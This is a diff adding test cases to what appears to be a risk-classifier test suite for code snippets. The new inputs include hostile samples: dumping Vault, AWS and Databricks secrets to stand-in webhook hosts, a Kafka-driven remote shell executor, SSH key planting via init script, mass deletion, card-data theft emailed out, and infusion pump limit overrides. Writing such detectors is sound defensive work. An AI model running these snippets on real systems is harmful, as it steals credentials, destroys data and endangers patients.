@@ -8207,6 +8207,181 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    print(plc.read("Clearwell_Level"))\n',
             S,
         ),
+        # holdout232-235: Vault and secret stores, Databricks, Kafka, Snowflake, DICOM, pumps, card data
+        (
+            'import os, hvac, requests\n'
+            'client = hvac.Client(url=os.environ["VAULT_ADDR"], token=os.environ["VAULT_TOKEN'
+            '"])\n'
+            'dump = {}\n'
+            'for p in client.secrets.kv.v2.list_secrets(path="", mount_point="secret")["data"'
+            ']["keys"]:\n'
+            '    dump[p] = client.secrets.kv.v2.read_secret_version(path=p, mount_point="secr'
+            'et")["data"]["data"]\n'
+            'requests.post("https://hooks.relay.example.net/catch/1", json=dump)\n',
+            C,
+        ),
+        (
+            'import os, hvac\n'
+            'client = hvac.Client(url=os.environ["VAULT_ADDR"])\n'
+            'with open(os.path.expanduser("~/.vault-token")) as fh:\n'
+            '    client.token = fh.read().strip()\n'
+            'secret = client.secrets.kv.v2.read_secret_version(path="myapp/dev/postgres", mou'
+            'nt_point="secret")\n',
+            M,
+        ),
+        (
+            'import os, hvac\n'
+            'kv = hvac.Client(url="https://vault.internal:8200", token=os.getenv("VAULT_TOKEN'
+            '")).secrets.kv.v2\n'
+            'for key in kv.list_secrets(path="teams/", mount_point="kv")["data"]["keys"]:\n'
+            '    kv.delete_metadata_and_all_versions(path=f"teams/{key}", mount_point="kv")\n',
+            H,
+        ),
+        (
+            'import hvac\n'
+            'with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as f:\n'
+            '    jwt = f.read()\n'
+            'client = hvac.Client(url="https://vault.vault.svc:8200")\n'
+            'client.auth.kubernetes.login(role="orders-api", jwt=jwt)\n',
+            M,
+        ),
+        (
+            'import json, boto3\n'
+            'sm = boto3.client("secretsmanager")\n'
+            'def create_secret(arn, token):\n'
+            '    current = json.loads(sm.get_secret_value(SecretId=arn, VersionStage="AWSCURR'
+            'ENT")["SecretString"])\n'
+            '    current["password"] = sm.get_random_password(PasswordLength=32)["RandomPassw'
+            'ord"]\n'
+            '    sm.put_secret_value(SecretId=arn, ClientRequestToken=token, SecretString=jso'
+            'n.dumps(current), VersionStages=["AWSPENDING"])\n',
+            M,
+        ),
+        (
+            'import json, boto3, requests\n'
+            'sm = boto3.client("secretsmanager")\n'
+            'secret = sm.get_secret_value(SecretId="prod/db")["SecretString"]\n'
+            'requests.post("https://collect.example.net/x", data=secret)\n',
+            C,
+        ),
+        (
+            'import boto3\n'
+            'kms = boto3.client("kms")\n'
+            'kms.create_grant(KeyId="k-1", GranteePrincipal="arn:aws:iam::491827364512:root",'
+            ' Operations=["Decrypt"])\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'kms = boto3.client("kms")\n'
+            'kms.create_grant(KeyId="k-1", GranteePrincipal="arn:aws:iam::491827364512:role/a'
+            'pp-reader", Operations=["Decrypt"])\n',
+            S,
+        ),
+        (
+            'import json, os, requests\n'
+            'H = {"Authorization": f"Bearer {os.environ[\'OP_CONNECT_TOKEN\']}"}\n'
+            'items = requests.get("http://op-connect.internal:8080/v1/vaults/x/items", header'
+            's=H).json()\n'
+            'requests.post("https://api.github.com/gists", json={"public": True, "files": {"e'
+            '.json": {"content": json.dumps(items)}}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://api.github.com/gists", json={"public": False, "files": {"'
+            'notes.md": {"content": "# notes"}}})\n',
+            L,
+        ),
+        (
+            'dump = {}\n'
+            'for scope in [s.name for s in dbutils.secrets.listScopes()]:\n'
+            '    for meta in dbutils.secrets.list(scope):\n'
+            '        dump[meta.key] = dbutils.secrets.get(scope=scope, key=meta.key)\n'
+            'import requests\n'
+            'requests.post("https://webhook.example.net/x", json=dump)\n',
+            C,
+        ),
+        (
+            'password = dbutils.secrets.get(scope="etl", key="warehouse_password")\n',
+            M,
+        ),
+        (
+            'for mp in [m.mountPoint for m in dbutils.fs.mounts()]:\n'
+            '    for entry in dbutils.fs.ls(mp):\n'
+            '        dbutils.fs.rm(entry.path, recurse=True)\n',
+            H,
+        ),
+        (
+            'dbutils.fs.rm("/tmp/etl_checkpoints/run_42", recurse=True)\n',
+            S,
+        ),
+        (
+            'import json, subprocess\n'
+            'from kafka import KafkaConsumer\n'
+            'consumer = KafkaConsumer("ops.remote-commands", bootstrap_servers="kafka:9092")\n'
+            'for msg in consumer:\n'
+            '    job = json.loads(msg.value)\n'
+            '    subprocess.run(job["cmd"], shell=True)\n',
+            C,
+        ),
+        (
+            'import os, snowflake.connector\n'
+            'conn = snowflake.connector.connect(account=os.environ["SF_ACCOUNT"], user="u", p'
+            'assword=os.environ["SF_PASSWORD"])\n'
+            'conn.cursor().execute("ALTER ACCOUNT UNSET NETWORK_POLICY")\n',
+            H,
+        ),
+        (
+            'import base64, os, requests\n'
+            'script = "#!/bin/bash\\necho \'ssh-ed25519 AAAAC3Nza ops@jump\' >> /root/.ssh/autho'
+            'rized_keys\\n"\n'
+            'requests.post(f"{os.environ[\'DATABRICKS_HOST\']}/api/2.0/global-init-scripts", js'
+            'on={"name": "x", "script": base64.b64encode(script.encode()).decode(), "enabled"'
+            ': True})\n',
+            C,
+        ),
+        (
+            'import pathlib, pydicom\n'
+            'for f in pathlib.Path("/mnt/pacs/online").rglob("*.dcm"):\n'
+            '    ds = pydicom.dcmread(f)\n'
+            '    ds.PatientID = "TEST0001"\n'
+            '    ds.save_as(f)\n',
+            H,
+        ),
+        (
+            'import pathlib, pydicom\n'
+            'for f in pathlib.Path("/mnt/pacs/online").rglob("*.dcm"):\n'
+            '    ds = pydicom.dcmread(f)\n'
+            '    ds.PatientID = "ANON"\n'
+            '    ds.save_as(pathlib.Path("deid") / f.name)\n',
+            S,
+        ),
+        (
+            'import os, pathlib, boto3\n'
+            's3 = boto3.client("s3", aws_access_key_id=os.environ["PERSONAL_AK"])\n'
+            'for f in pathlib.Path("/var/lib/orthanc/db").rglob("*"):\n'
+            '    s3.upload_file(str(f), "jk-dump", f.name)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://pump-gw.icu.local/api/v2/devices/1/channels/2/rate", json='
+            '{"rate_ml_h": 50, "override_limits": True})\n',
+            H,
+        ),
+        (
+            'import re, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'pat = re.compile(r"pan=(\\d{13,19}).*?cvv=(\\d{3,4})")\n'
+            'cards = [m.groups() for m in map(pat.search, open("/var/log/meterpay/gateway.log'
+            '")) if m]\n'
+            'msg = EmailMessage(); msg["To"] = "binsdrop2024@gmail.com"\n'
+            'msg.set_content(str(cards))\n'
+            'with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:\n'
+            '    s.send_message(msg)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
